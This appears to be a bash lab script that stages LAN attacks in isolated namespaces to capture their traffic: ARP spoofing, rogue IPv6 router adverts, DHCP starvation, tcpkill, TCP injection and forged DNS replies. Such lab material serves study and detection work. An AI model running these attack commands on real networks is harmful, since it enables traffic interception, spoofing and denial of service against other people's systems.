# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0-or-later
# One says that he is another.

make_arp_spoof() {
    web far
    on attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    listen
    for _ in {1..4}; do
        on client curl -s -o /dev/null http://192.0.2.80/10.txt
        sleep 0.7
    done
    on attacker timeout -s INT 12 arpspoof -i eth0 -t 10.9.0.10 -r 10.9.0.1 &
    for _ in {1..8}; do
        sleep 1
        on client curl -s -m 5 -o /dev/null http://192.0.2.80/10.txt || true
    done
    sleep 8
}

make_arp_spoof_ettercap() {
    web far
    listen
    on client ping -q -c 2 192.0.2.80
    on attacker timeout -s INT 15 ettercap -T -q -i eth0 -M arp:remote /10.9.0.10// /10.9.0.1// &
    for _ in {1..5}; do
        sleep 2
        on client curl -s -m 5 -o /dev/null http://192.0.2.80/10.txt || true
    done
    sleep 4
}

make_arp_storm() {
    listen
    try on attacker nping -q --arp --rate 200 -c 400 10.9.0.200
}

# The LAN's router announces fd00:9::/64.
announce() {
    on gateway radvd -n -C "$work/radvd.conf" -p "$work/radvd.pid" -m stderr &
}

with_ipv6() {
    on gateway sysctl -qw net.ipv6.conf.all.forwarding=1
    ipv6 gateway attacker client victim
    cat >"$work/radvd.conf" <<EOF
interface eth0 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix fd00:9::/64 { }; };
EOF
}

address6() {
    on "$1" ip -6 -o address show dev eth0 scope "$2" | sed 's,.*inet6 \([^/]*\)/.*,\1,'
}

make_rogue_router() {
    with_ipv6
    announce
    listen
    sleep 8
    run_for 10 ip netns exec attacker atk6-fake_router6 eth0 fd00:bad::/64
    sleep 3
}

make_kill_router() {
    with_ipv6
    announce
    listen
    sleep 8
    run_for 6 ip netns exec attacker atk6-kill_router6 eth0 "$(address6 gateway link)"
    sleep 3
}

dhcp_server() {
    name_server gateway --dhcp-range=10.9.0.100,10.9.0.250,1h --dhcp-authoritative --no-ping "$@"
}

# dhcpig does not get along with Debian's scapy: as many real clients, with random MACs.
make_dhcp_starvation() {
    local number
    dhcp_server
    for number in {1..120}; do
        on attacker ip link add link eth0 name "m$number" type macvlan
        on attacker ip link set "m$number" up
    done
    listen
    for number in {1..120}; do
        dhcp_client attacker "m$number" /bin/true &
        sleep 0.05
    done
    sleep 8
}

make_dhcp_discover_flood() {
    keep='1-400'
    dhcp_server
    listen
    sleep 3 | run_for 3 ip netns exec attacker yersinia dhcp -attack 1 -interface eth0
}

# A RST for every packet of the other's connection that passes by.
make_tcpkill() {
    like_a_hub
    web far
    long_page
    listen
    on attacker timeout 6 tcpkill -i eth0 host 10.9.0.10 &
    sleep 2
    for _ in {1..3}; do
        try on client curl -s -m 4 --limit-rate 100k -o /dev/null http://192.0.2.80/long.txt
    done
    keep='1-500'
}

inject() {
    like_a_hub
    web far
    on attacker "$here/lab.d/inject" "$1" &
    sleep 2
    listen
    for number in 5 6 7; do
        try on client curl -s -m 5 -o /dev/null "http://192.0.2.80/$number.txt"
        sleep 1
    done
}

make_tcp_injection() { inject 62; }
make_tcp_injection_ttl() { inject 128; }

make_syn_in_flow() {
    local port
    ssh_server victim
    listen
    (sleep 8 | on client ncat 10.9.0.20 22) &
    sleep 2
    port=$(on victim ss -Htn 'sport = :22' | sed 's/.*:\([0-9]*\) *$/\1/')
    try on attacker hping3 -q -S -a 10.9.0.10 -s "$port" -k -p 22 -M 4711 -c 3 10.9.0.20
    sleep 5
}

make_syn_data() {
    web victim
    head -c 100 "$work/www/9.txt" >"$work/data"
    listen
    try on attacker hping3 -q -S -p 80 -E "$work/data" -d 100 -c 3 10.9.0.20
}

make_rst_data() {
    head -c 40 "$here/lab" >"$work/data"
    listen
    try on attacker hping3 -q -R -p 80 -E "$work/data" -d 40 -c 3 10.9.0.20
}

# The client has enough in the middle; what is on its way still comes.
make_data_after_rst() {
    web far
    long_page
    listen
    try on client bash -c 'curl -s http://192.0.2.80/long.txt | head -c 40000 >/dev/null'
    keep='1-300'
}

make_dns_unasked() {
    name_server far
    printf '\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01' >"$work/answer"
    printf '\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\x0a\x09\x00\x42' >>"$work/answer"
    listen
    for number in 1 2 3; do
        on client dig +short +tries=1 "www$number.example.test" @192.0.2.53
    done
    try on attacker hping3 -q -2 -a 192.0.2.53 -s 53 -k -p ++33000 -E "$work/answer" -d "$(stat -c %s "$work/answer")" -i u50000 -c 20 10.9.0.10
}
